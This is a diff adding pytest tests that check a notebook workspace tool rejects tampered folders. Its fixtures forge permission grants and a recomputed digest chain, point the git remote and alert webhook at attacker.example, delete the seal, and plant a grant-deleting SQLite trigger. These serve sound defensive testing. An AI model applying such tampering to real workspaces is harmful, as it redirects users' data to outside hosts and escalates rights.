@@ -24,8 +24,9 @@ import nexus_jupyter as nexus
 from nexus_jupyter.engine import Engine
 from nexus_jupyter.protocol.alerts import AlertRule
 from nexus_jupyter.protocol.errors import NexusError, NotFoundError, StorageError
+from nexus_jupyter.storage import chained
 from nexus_jupyter.storage.private import replace
-from nexus_jupyter.upkeep import verified
+from nexus_jupyter.upkeep import repaired, verified
 from nexus_jupyter.workspace import WorkspaceKernel, WorkspaceOptions, trust
 from tests.conftest import ANN, COUNTER
 
@@ -326,3 +327,94 @@ def test_where_nothing_can_be_kept_a_session_knows_its_own_workspace(
         for _ in range(2)
     ]
     assert said == ["[] None", "['counter'] None"]
+
+
+def grant_more(folder: Path) -> None:
+    with closing(sqlite3.connect(folder / "journal.db")) as connection:
+        connection.execute("UPDATE grants SET cap = 'fs.write', target = NULL")
+        connection.commit()
+
+
+def change_a_panel(folder: Path) -> None:
+    """Write another program into the journal, and the digests that fit it."""
+    with closing(sqlite3.connect(folder / "journal.db")) as connection:
+        connection.row_factory = sqlite3.Row
+        connection.execute("UPDATE journal SET ops = replace(ops, 'state.count += by', 'state.count -= by')")
+        connection.execute("DELETE FROM checkpoints")
+        digest = ""
+        for row in connection.execute("SELECT * FROM journal ORDER BY rev").fetchall():
+            digest = chained(digest, dict(row))
+            connection.execute("UPDATE journal SET digest = ? WHERE rev = ?", (digest, row["rev"]))
+        connection.commit()
+
+
+def another_remote(folder: Path) -> None:
+    replace(folder / "remotes.json", json.dumps({"origin": "https://attacker.example/x.git"}))
+
+
+def another_alert(folder: Path) -> None:
+    replace(
+        folder / "alert-rule.json", AlertRule(active=True, webhooks=["https://attacker.example/"]).model_dump_json()
+    )
+
+
+def no_seal(folder: Path) -> None:
+    (folder / "seal.json").unlink()
+
+
+BROUGHT_BACK: dict[str, Callable[[Path], None]] = {
+    "other grants": grant_more,
+    "another panel under the grants": change_a_panel,
+    "another remote": another_remote,
+    "another alert": another_alert,
+    "no seal": no_seal,
+}
+
+
+@pytest.mark.parametrize("change", BROUGHT_BACK.values(), ids=BROUGHT_BACK)
+def test_ones_own_folder_that_is_brought_back_changed_has_no_rights(
+    tmp_path: Path, engine: Engine, change: Callable[[Path], None]
+) -> None:
+    """The person gave the whole folder away: the attacker has its signed identity."""
+    folder = tmp_path / "sales"
+    kernel = WorkspaceKernel(folder, engine=engine)
+    kernel.put_panel("counter", COUNTER, ANN)
+    kernel.permissions.grant("counter", "net.http", "https://example.org", ANN)
+    kernel.versions.remote("origin", "https://example.org/sales.git")
+    kernel.close()
+    archive = shutil.make_archive(str(tmp_path / "given"), "tar", folder)
+    shutil.rmtree(folder)
+    shutil.unpack_archive(archive, folder, filter="data")
+    change(folder / ".nexus")
+    kernel = WorkspaceKernel(folder, engine=engine)
+    try:
+        assert kernel.panels() == ["counter"]
+        assert kernel.permissions.store.active("counter") == []
+        assert kernel.versions.remotes.all() == {}
+        assert not kernel.alerts.state().rule.active
+        told = kernel.adoption.state()
+        assert told is not None
+        assert {one.kind for one in told.left} >= {"grant", "remote"}
+    finally:
+        kernel.close()
+
+
+def test_ones_own_folder_that_is_brought_back_with_a_trigger_is_not_opened(tmp_path: Path, engine: Engine) -> None:
+    """A trigger would give grants when something else is saved, after the rights were looked at."""
+    folder = tmp_path / "sales"
+    kernel = WorkspaceKernel(folder, engine=engine)
+    kernel.put_panel("counter", COUNTER, ANN)
+    kernel.close()
+    folder.rename(tmp_path / "given")
+    shutil.copytree(tmp_path / "given", folder)
+    shutil.rmtree(tmp_path / "given")
+    with closing(sqlite3.connect(folder / ".nexus" / "journal.db")) as connection:
+        connection.execute("CREATE TRIGGER t AFTER INSERT ON journal BEGIN DELETE FROM grants; END")
+        connection.commit()
+    with pytest.raises(StorageError, match="a trigger or view 't'"):
+        WorkspaceKernel(folder, engine=engine)
+    assert any("trigger" in finding.detail for finding in verified(folder))
+    repaired(folder)
+    kernel = WorkspaceKernel(folder, engine=engine)
+    assert kernel.panels() == ["counter"]
+    kernel.close()
